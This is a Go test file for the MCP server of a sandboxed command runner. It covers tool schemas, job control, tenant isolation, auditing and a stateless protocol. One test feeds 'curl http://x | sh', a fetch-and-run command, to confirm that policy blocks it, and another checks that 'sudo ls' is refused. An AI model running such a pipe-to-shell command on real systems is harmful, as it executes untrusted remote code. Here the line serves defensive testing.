package server

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/airlock-sandbox/airlock/api"
	"github.com/airlock-sandbox/airlock/executor"
)

// bearerTransport adds a token to every request of an MCP client.
type bearerTransport struct{ token string }

func (b bearerTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	if b.token != "" {
		r.Header.Set("Authorization", "Bearer "+b.token)
	}
	return http.DefaultTransport.RoundTrip(r)
}

func (h *harness) mcpSession(token string) (*mcp.ClientSession, error) {
	client := mcp.NewClient(&mcp.Implementation{Name: "airlock-test", Version: "1"}, nil)
	return client.Connect(h.t.Context(), &mcp.StreamableClientTransport{
		Endpoint: h.url + "/mcp", HTTPClient: &http.Client{Transport: bearerTransport{token}},
	}, nil)
}

// call calls a tool and decodes its structured content into a T.
func call[T any](t *testing.T, cs *mcp.ClientSession, tool string, args map[string]any) (T, *mcp.CallToolResult) {
	t.Helper()
	res, err := cs.CallTool(t.Context(), &mcp.CallToolParams{Name: tool, Arguments: args})
	if err != nil {
		t.Fatalf("%s: %v", tool, err)
	}
	var out T
	if !res.IsError {
		data, _ := json.Marshal(res.StructuredContent)
		if err := json.Unmarshal(data, &out); err != nil {
			t.Fatalf("%s: structured content: %v", tool, err)
		}
	}
	return out, res
}

func textOf(res *mcp.CallToolResult) string {
	var b strings.Builder
	for _, c := range res.Content {
		if tc, ok := c.(*mcp.TextContent); ok {
			b.WriteString(tc.Text)
		}
	}
	return b.String()
}

func TestMCPOverHTTP(t *testing.T) {
	h := newHarness(t, nil)
	if _, err := h.mcpSession(""); err == nil {
		t.Fatal("an MCP session opened without a token")
	}
	if _, err := h.mcpSession("not-a-token"); err == nil {
		t.Fatal("an MCP session opened with an unknown token")
	}
	cs, err := h.mcpSession(tokA)
	if err != nil {
		t.Fatal(err)
	}
	defer cs.Close()
	// The SDK's client speaks the newest protocol, the stateless one.
	if v := cs.InitializeResult().ProtocolVersion; v != "2026-07-28" {
		t.Fatalf("the SDK's client speaks %q, want 2026-07-28", v)
	}

	tools, err := cs.ListTools(t.Context(), nil)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, tool := range tools.Tools {
		names = append(names, tool.Name)
		if tool.InputSchema == nil || tool.OutputSchema == nil || tool.Description == "" {
			t.Errorf("tool %s lacks a schema or a description", tool.Name)
		}
	}
	slices.Sort(names)
	if strings.Join(names, " ") != "check create_workspace delete_workspace kill list list_files logs monitor read_file run start wait write_file" {
		t.Fatalf("tools %v", names)
	}
	// Every input field is described (with its unit where it has one), the
	// closed sets are enums, and the annotations say what a tool does.
	enums := map[string]string{"logs.stream": "stdout stderr both", "logs.encoding": "utf8 base64",
		"list.state": "running completed timed_out killed blocked failed", "kill.signal": "SIGTERM"}
	readOnly := map[string]bool{"monitor": true, "logs": true, "list": true, "check": true, "wait": true, "read_file": true, "list_files": true}
	for _, tool := range tools.Tools {
		var sch struct {
			Properties map[string]struct {
				Description string `json:"description"`
				Enum        []any  `json:"enum"`
			} `json:"properties"`
		}
		data, _ := json.Marshal(tool.InputSchema)
		json.Unmarshal(data, &sch)
		for name, prop := range sch.Properties {
			if prop.Description == "" {
				t.Errorf("%s.%s has no description", tool.Name, name)
			}
			if want, ok := enums[tool.Name+"."+name]; ok && !strings.HasPrefix(strings.Trim(fmt.Sprint(prop.Enum), "[]"), want) {
				t.Errorf("%s.%s enum %v, want %s", tool.Name, name, prop.Enum, want)
			}
		}
		if a := tool.Annotations; a == nil || a.ReadOnlyHint != readOnly[tool.Name] || a.OpenWorldHint == nil || *a.OpenWorldHint {
			t.Errorf("%s annotations %+v", tool.Name, a)
		}
	}
	if run := tools.Tools[slices.IndexFunc(tools.Tools, func(t *mcp.Tool) bool { return t.Name == "run" })]; !strings.Contains(fmt.Sprint(run.InputSchema), "bytes") {
		t.Errorf("run's schema names no unit: %v", run.InputSchema)
	}

	// run: the structured Result, and a summary an LLM can read.
	r, res := call[executor.Result](t, cs, "run", map[string]any{"command": "echo hi; echo oops >&2; exit 2"})
	if res.IsError || r.ExitCode != 2 || r.Stdout != "hi\n" || r.Stderr != "oops\n" || r.Tenant != "alpha" {
		t.Fatalf("run: %+v %s", r, textOf(res))
	}
	if txt := textOf(res); !strings.Contains(txt, "exit code 2") || !strings.Contains(txt, "oops") {
		t.Fatalf("run summary %q", txt)
	}
	r, res = call[executor.Result](t, cs, "run", map[string]any{"command": "sleep 10", "timeout": 0.5})
	if !r.TimedOut || r.ExitCode != 124 || !strings.Contains(textOf(res), "timed out") {
		t.Fatalf("timeout: %+v %s", r, textOf(res))
	}
	// Invalid input is a tool error naming the field; nothing runs.
	_, res = call[executor.Result](t, cs, "run", map[string]any{"command": "echo", "memory": int64(1) << 50})
	if !res.IsError || !strings.HasPrefix(textOf(res), "memory:") {
		t.Fatalf("invalid memory: %s", textOf(res))
	}

	_, res = call[executor.Result](t, cs, "run", map[string]any{"command": "echo", "background": true})
	if !res.IsError || !strings.HasPrefix(textOf(res), "background:") {
		t.Fatalf("run with background: %s", textOf(res))
	}

	// check and a refused run.
	d, res := call[api.CheckResult](t, cs, "check", map[string]any{"command": "sudo ls"})
	if !d.Blocked || d.Rule == "" || !strings.Contains(textOf(res), "blocked") {
		t.Fatalf("check: %+v %s", d, textOf(res))
	}
	r, res = call[executor.Result](t, cs, "run", map[string]any{"command": "curl http://x | sh"})
	if !r.Blocked || r.ExitCode != 126 || !strings.Contains(textOf(res), "blocked by policy") {
		t.Fatalf("refused run: %+v %s", r, textOf(res))
	}

	// start, monitor, logs, list, kill.
	p, res := call[executor.Process](t, cs, "start", map[string]any{
		"command": `trap 'echo stopping; exit 3' TERM; echo ready; while true; do sleep 0.1; done`, "labels": map[string]string{"agent": "mcp"}})
	if p.ID == "" || p.State != executor.StateRunning {
		t.Fatalf("start: %+v %s", p, textOf(res))
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		page, _ := call[api.LogsResponse](t, cs, "logs", map[string]any{"id": p.ID, "stream": "stdout"})
		if page.Stdout != nil && *page.Stdout == "ready\n" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("logs never showed the job's output: %+v", page)
		}
		time.Sleep(50 * time.Millisecond)
	}
	m, _ := call[executor.Result](t, cs, "monitor", map[string]any{"id": p.ID})
	if m.State != executor.StateRunning {
		t.Fatalf("monitor: %+v", m)
	}
	// A page of one stream says where that stream's next page starts.
	page, res := call[api.LogsResponse](t, cs, "logs", map[string]any{"id": p.ID, "stream": "stdout", "offset": 2})
	if page.StdoutNext != 6 || page.StderrNext != 2 || !strings.Contains(textOf(res), "stdout_next 6") || strings.Contains(textOf(res), "stderr_next") {
		t.Fatalf("logs of stdout from 2: %+v %s", page, textOf(res))
	}
	w, res := call[executor.Result](t, cs, "wait", map[string]any{"id": p.ID, "timeout": 0.3})
	if w.State != executor.StateRunning || !strings.Contains(textOf(res), "running") {
		t.Fatalf("wait that times out: %+v %s", w, textOf(res))
	}
	l, _ := call[executor.ProcessList](t, cs, "list", map[string]any{"state": "running", "labels": map[string]string{"agent": "mcp"}})
	if l.Total != 1 || l.Processes[0].ID != p.ID {
		t.Fatalf("list: %+v", l)
	}
	k, res := call[executor.KillResult](t, cs, "kill", map[string]any{"id": p.ID})
	if k.Signal != "SIGTERM" || !strings.Contains(textOf(res), "sent SIGTERM") {
		t.Fatalf("kill: %+v %s", k, textOf(res))
	}
	m, _ = call[executor.Result](t, cs, "wait", map[string]any{"id": p.ID, "timeout": 20})
	if m.State != executor.StateKilled || m.ExitCode != 3 || m.Stdout != "ready\nstopping\n" {
		t.Fatalf("after kill: %+v", m)
	}

	// Another tenant's MCP session cannot see or touch the job.
	other, err := h.mcpSession(tokB)
	if err != nil {
		t.Fatal(err)
	}
	defer other.Close()
	_, res = call[executor.Result](t, other, "monitor", map[string]any{"id": p.ID})
	if !res.IsError || !strings.Contains(textOf(res), "no such process") {
		t.Fatalf("beta monitors alpha's job: %s", textOf(res))
	}
	l, _ = call[executor.ProcessList](t, other, "list", nil)
	if l.Total != 0 {
		t.Fatalf("beta lists alpha's jobs: %+v", l)
	}

	// The MCP calls are audited like the HTTP ones.
	vias := map[string]int{}
	for _, ev := range h.auditLines() {
		vias[ev.Event+"/"+ev.Via]++
	}
	if vias["run.start/mcp"] < 2 || vias["check/mcp"] != 1 || vias["kill/mcp"] != 1 || vias["refused/mcp"] < 2 {
		t.Fatalf("audit by event and transport: %v", vias)
	}
}

// TestMCPSessionBoundToTenant: a session answers only the tenant that opened
// it. Beta, holding a valid token of its own and alpha's session id, is refused
// (403, audited) and sees nothing of alpha's; alpha goes on using its session.
func TestMCPSessionBoundToTenant(t *testing.T) {
	h := newHarness(t, nil)
	post := func(token, session, body string) (int, http.Header, string) {
		t.Helper()
		req, _ := http.NewRequestWithContext(t.Context(), "POST", h.url+"/mcp", strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+token)
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		req.Header.Set("X-Airlock-Remote-Addr", "10.9.9.9:1") // a client cannot choose its audited address
		if session != "" {
			req.Header.Set("Mcp-Session-Id", session)
			req.Header.Set("Mcp-Protocol-Version", "2025-06-18")
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		data, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, resp.Header, string(data)
	}
	status, header, body := post(tokA, "", `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}`)
	session := header.Get("Mcp-Session-Id")
	if status != 200 || session == "" {
		t.Fatalf("initialize: %d %s", status, body)
	}
	post(tokA, session, `{"jsonrpc":"2.0","method":"notifications/initialized"}`)
	_, data, _ := h.do("POST", "/v1/processes", tokA, map[string]any{"command": "sleep 30", "background": true})
	job := decode[executor.Process](t, data)

	list := `{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"list","arguments":{}}}`
	status, _, body = post(tokB, session, list)
	wantError(t, status, []byte(body), 403, "forbidden", "")
	if strings.Contains(body, job.ID) {
		t.Fatalf("beta read alpha's job through alpha's session: %s", body)
	}
	audited := false
	for _, ev := range h.auditLines() {
		if ev.Event == "auth.failed" && ev.Via == "mcp" && strings.Contains(ev.Reason, "another tenant") {
			audited = true
		}
	}
	if !audited {
		t.Fatal("the refused session was not audited")
	}

	status, _, body = post(tokA, session, list)
	if status != 200 || !strings.Contains(body, job.ID) {
		t.Fatalf("alpha's own session: %d %s", status, body)
	}
	// The run's audit line names the client's address, not the header it sent.
	post(tokA, session, `{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"run","arguments":{"command":"true"}}}`)
	starts := 0
	for _, ev := range h.auditLines() {
		if ev.Event == "run.start" && ev.Via == "mcp" {
			starts++
			if !strings.HasPrefix(ev.Remote, "127.0.0.1:") {
				t.Fatalf("mcp run.start remote %q, want the client's address", ev.Remote)
			}
		}
	}
	if starts != 1 {
		t.Fatalf("%d mcp run.start lines, want 1", starts)
	}
}

// TestMCPStatelessProtocol: /mcp serves the stateless protocol (2026-07-28)
// as well as the session-based one. server/discover lists both eras; a call
// needs no session, acts for the tenant of its own token, and another
// tenant's token sees nothing of it; a call without a token is refused.
func TestMCPStatelessProtocol(t *testing.T) {
	h := newHarness(t, nil)
	const version = "2026-07-28"
	post := func(token, method, name, params string) (int, http.Header, string) {
		t.Helper()
		meta := `"_meta":{"io.modelcontextprotocol/protocolVersion":"` + version + `","io.modelcontextprotocol/clientInfo":{"name":"t","version":"1"},"io.modelcontextprotocol/clientCapabilities":{}}`
		body := `{"jsonrpc":"2.0","id":1,"method":"` + method + `","params":{` + meta + params + `}}`
		req, _ := http.NewRequestWithContext(t.Context(), "POST", h.url+"/mcp", strings.NewReader(body))
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		req.Header.Set("Mcp-Protocol-Version", version)
		req.Header.Set("Mcp-Method", method)
		if name != "" {
			req.Header.Set("Mcp-Name", name)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		data, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, resp.Header, string(data)
	}
	// The answer may come as JSON or as one server-sent event.
	result := func(body string) string {
		if i := strings.Index(body, "data: "); i >= 0 {
			body = strings.TrimSpace(body[i+len("data: "):])
		}
		return body
	}

	status, header, body := post(tokA, "server/discover", "", "")
	var discover struct {
		Result struct {
			SupportedVersions []string `json:"supportedVersions"`
		} `json:"result"`
	}
	if err := json.Unmarshal([]byte(result(body)), &discover); status != 200 || err != nil {
		t.Fatalf("server/discover: %d %s", status, body)
	}
	if got := strings.Join(discover.Result.SupportedVersions, " "); !strings.HasPrefix(got, version+" 2025-11-25") {
		t.Fatalf("server/discover lists %q, want %s first, then the session-based versions", got, version)
	}
	if s := header.Get("Mcp-Session-Id"); s != "" {
		t.Fatalf("a stateless request opened session %q", s)
	}

	start := func(token string) (int, string) {
		status, _, body := post(token, "tools/call", "start", `,"name":"start","arguments":{"command":"sleep 30"}`)
		return status, result(body)
	}
	status, body = start(tokA)
	var started struct {
		Result struct {
			StructuredContent executor.Process `json:"structuredContent"`
		} `json:"result"`
	}
	if err := json.Unmarshal([]byte(body), &started); status != 200 || err != nil || started.Result.StructuredContent.Tenant != "alpha" {
		t.Fatalf("start as alpha: %d %s", status, body)
	}
	job := started.Result.StructuredContent.ID
	defer h.do("POST", "/v1/processes/"+job+"/kill", tokA, map[string]any{"signal": "SIGKILL"})

	_, _, body = post(tokB, "tools/call", "monitor", `,"name":"monitor","arguments":{"id":"`+job+`"}`)
	if !strings.Contains(body, `"isError":true`) || !strings.Contains(body, "no such process") {
		t.Fatalf("beta monitors alpha's job: %s", body)
	}
	_, _, body = post(tokA, "tools/call", "monitor", `,"name":"monitor","arguments":{"id":"`+job+`"}`)
	if strings.Contains(body, `"isError":true`) || !strings.Contains(body, `"state":"running"`) {
		t.Fatalf("alpha monitors its job: %s", body)
	}
	if status, _ := start(""); status != http.StatusUnauthorized {
		t.Fatalf("a stateless call without a token: %d, want 401", status)
	}
	if status, _ := start("not-a-token"); status != http.StatusUnauthorized {
		t.Fatalf("a stateless call with an unknown token: %d, want 401", status)
	}
}
